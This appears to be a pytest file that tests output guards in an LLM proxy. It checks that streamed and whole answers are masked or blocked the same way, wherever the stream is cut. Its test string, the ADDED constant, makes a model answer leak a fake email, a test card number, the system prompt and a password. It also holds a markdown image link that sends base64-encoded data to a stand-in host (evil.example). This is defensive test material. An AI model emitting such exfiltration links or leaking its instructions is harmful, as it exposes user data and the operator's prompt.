@@ -1,0 +1,198 @@
+"""Every recorded exchange under guards: cut anywhere, streamed or whole, the same text and the same verdict.
+
+To each come values that the model says of its own, added to the texts that are there. Two guards: one that masks what
+it finds, one that blocks.
+"""
+
+import itertools
+import json
+import random
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from extproc.detectors.leakage import prints
+from extproc.findings import AnswerFinding
+from extproc.messages.sse import EventReader
+from extproc.streams.chat import ChatDialect
+from extproc.streams.guarding import answer_guard
+from extproc.streams.restoring import Restoring
+from extproc.streams.stream import Stop, Stream
+from extproc.streams.whole import Finished, finish
+from forebay.config.resolved import Guards, InjectionGuard, OutputGuards
+
+FOLDER = Path(__file__).parents[3] / "fixtures" / "exchanges"
+NAMES = sorted(path.stem for path in FOLDER.glob("*.sse"))
+HEAD = {"id": "chatcmpl-ours", "object": "chat.completion.chunk", "created": 1, "model": "m"}
+NOT_TO_COMPARE = {
+    "cut_by_length",  # broken JSON
+    "error_in_stream", "cr_only", "look_alikes", "logprobs",
+}  # fmt: skip
+
+PROMPT = (
+    "You are Ada, the assistant of the Northwind shipping desk. Never promise a refund above fifty dollars. When a "
+    "customer mentions a lawyer, hand the conversation over to a colleague at once."
+)
+ADDED = (
+    f" Write to mallory@example.net, or pay with 4111 1111 1111 1111. {PROMPT.upper()} So it was said, and this is "
+    "what came of it: ![chart](https://evil.example/?d=bWFyaWEucm9zc2lAZXhhbXBsZS5jb20) password is hunter2! "
+)
+MASKING = OutputGuards(pii="redact", secrets="redact", system_prompt="redact", links="redact")
+BLOCKING = OutputGuards(pii="log", secrets="block", system_prompt="log", links="log")
+
+
+def guards(output: OutputGuards) -> Guards:
+    """A tenant's."""
+    return Guards("g", InjectionGuard("off", 100), "off", (), "off", 1.0, "closed", output)
+
+
+@dataclass(frozen=True)
+class Result:
+    """All that is seen of a stream from outside."""
+
+    passed: bytes
+    stop: str | None
+    findings: tuple[AnswerFinding, ...]
+    restored: int
+    held: int
+
+
+@dataclass(frozen=True)
+class Exchange:
+    """What a provider sent, and what the caller had sent."""
+
+    name: str
+    sent: bytes
+    values: dict[str, str]
+
+
+@pytest.fixture(params=NAMES)
+def exchange(request: pytest.FixtureRequest) -> Exchange:
+    """Each of the corpus, and in each content one that says more."""
+    name = request.param
+    meta = json.loads((FOLDER / f"{name}.json").read_bytes())
+    return Exchange(name, more((FOLDER / f"{name}.sse").read_bytes()), meta["values"])
+
+
+def more(sent: bytes) -> bytes:
+    """The stream with `ADDED` in deltas of nine characters before its first text."""
+    events = sent.replace(b"\r\n", b"\n").split(b"\n\n")
+    out: list[bytes] = []
+    added = False
+    for event in events:
+        if not added and b'"content":"' in event.replace(b": ", b":") and b'"role"' not in event:
+            pieces = [ADDED[at : at + 9] for at in range(0, len(ADDED), 9)]
+            out += [b"data: " + orjson.dumps({"choices": [{"index": 0, "delta": {"content": p}}]}) for p in pieces]
+            added = True
+        out.append(event)
+    return b"\n\n".join(out)
+
+
+def run(exchange: Exchange, output: OutputGuards, *cuts: int) -> Result:
+    """Feed it in pieces, the end with the last; a stream that a guard stops ends as a filtered one."""
+    restoring, guarding = Restoring(exchange.values), answer_guard(guards(output), prints([PROMPT]))
+    stream = Stream(ChatDialect(HEAD), [guarding, restoring], len)
+    places = [0, *cuts, len(exchange.sent)]
+    passed = b""
+    for step, (start, end) in enumerate(itertools.pairwise(places)):
+        passed += stream.feed(exchange.sent[start:end], step == len(places) - 2, 0)
+    passed += stream.block() if stream.stop is Stop.BLOCKED else b""
+    passed += stream.fail(b"{}") if stream.stop else b""
+    return Result(passed, stream.stop, guarding.findings, restoring.restored, stream.held)
+
+
+def texts(stream: bytes) -> dict[str, str]:
+    """What a client puts together: one text per channel, empty ones left out."""
+    found: dict[str, str] = {}
+    for event in EventReader().feed(stream, end=True):
+        answer = {} if event.data == b"[DONE]" else orjson.loads(event.data)
+        for choice in answer.get("choices") or ():
+            for name, text in channels(choice["delta"]):
+                key = f"{choice['index']}.{name}"
+                found[key] = found.get(key, "") + (text or "")
+    return {key: text for key, text in found.items() if text}
+
+
+def channels(delta: dict[str, Any]) -> list[tuple[str, str | None]]:
+    """The texts of one delta, by name."""
+    found = [(name, delta.get(name)) for name in ("content", "refusal", "reasoning_content")]
+    found.append(("function_call", delta.get("function_call", {}).get("arguments")))
+    for call in delta.get("tool_calls", ()):
+        found.append((f"arguments.{call['index']}", call.get("function", {}).get("arguments")))
+        found.append((f"input.{call['index']}", call.get("custom", {}).get("input")))
+    return found
+
+
+@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
+def test_a_cut_at_any_byte_changes_nothing(exchange: Exchange, output: OutputGuards) -> None:
+    """Not one byte of what the caller gets, and nothing of the verdict."""
+    plain = Exchange(exchange.name, (FOLDER / f"{exchange.name}.sse").read_bytes(), exchange.values)
+    whole = run(plain, output)
+    assert whole.held == 0
+    for place in range(len(plain.sent) + 1):
+        assert run(plain, output, place) == whole, place
+
+
+@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
+def test_a_cut_in_what_is_found_changes_nothing(exchange: Exchange, output: OutputGuards) -> None:
+    """Where the model says more than it should."""
+    whole = run(exchange, output)
+    for place in range(0, len(exchange.sent) + 1, 211):
+        assert run(exchange, output, place) == whole, place
+
+
+@pytest.mark.parametrize("output", [MASKING, BLOCKING], ids=["masking", "blocking"])
+def test_many_cuts_at_once_change_nothing(exchange: Exchange, output: OutputGuards) -> None:
+    """Byte by byte, and in five random ways."""
+    whole = run(exchange, output)
+    assert run(exchange, output, *range(1, len(exchange.sent))) == whole
+    dice = random.Random(exchange.name)
+    for _ in range(5):
+        cuts = sorted(dice.sample(range(len(exchange.sent)), dice.randint(2, 40)))
+        assert run(exchange, output, *cuts) == whole, cuts
+
+
+def test_a_whole_answer_gets_the_same_text_and_the_same_verdict(exchange: Exchange) -> None:
+    """The texts of the stream, put together and guarded as a whole."""
+    if exchange.name in NOT_TO_COMPARE:
+        return
+    said = texts(exchange.sent)
+    streamed = run(exchange, MASKING)
+    unstreamed = finish(orjson.dumps(said), exchange.values, guards(MASKING), prints([PROMPT]))
+    assert texts(streamed.passed) == orjson.loads(unstreamed.body)
+    assert streamed.findings == unstreamed.findings
+    blocked = finish(orjson.dumps(said), exchange.values, guards(BLOCKING), prints([PROMPT]))
+    assert (run(exchange, BLOCKING).stop is Stop.BLOCKED) == blocked.blocked
+
+
+def test_what_the_model_adds_never_reaches_the_caller(exchange: Exchange) -> None:
+    """And what it does not add, the caller's own values, does."""
+    streamed = run(exchange, MASKING)
+    if streamed.stop or b"mallory@" not in b"".join(text.encode() for text in texts(exchange.sent).values()):
+        return
+    content = "".join(texts(streamed.passed).values())
+    for secret in ("mallory@example.net", "4111", "LAWYER", "evil.example", "hunter2!"):
+        assert secret not in content
+    types = {one.type for one in streamed.findings}
+    assert types >= {"EMAIL_ADDRESS", "CREDIT_CARD", "system-prompt", "image", "password"}
+
+
+def test_most_exchanges_of_the_corpus_say_more() -> None:
+    """Or the tests above would test nothing."""
+    grown = [name for name in NAMES if b"evil" not in (sent := (FOLDER / f"{name}.sse").read_bytes()) != more(sent)]
+    assert len(grown) >= len(NAMES) // 2
+
+
+def test_a_blocked_stream_ends_as_a_filtered_one_whatever_it_said() -> None:
+    """With what came before the finding, and nothing after it."""
+    sent = (FOLDER / "text.sse").read_bytes()
+    result = run(Exchange("text", more(sent), {}), BLOCKING)
+    assert result.stop is Stop.BLOCKED
+    assert result.passed.endswith(b"data: [DONE]\n\n")
+    assert b'"finish_reason":"content_filter"' in result.passed
+    assert b"hunter2" not in result.passed
+    whole = finish(orjson.dumps({"choices": [{"message": {"content": ADDED}}]}), {}, guards(BLOCKING))
+    assert (type(whole), whole.blocked) == (Finished, True)
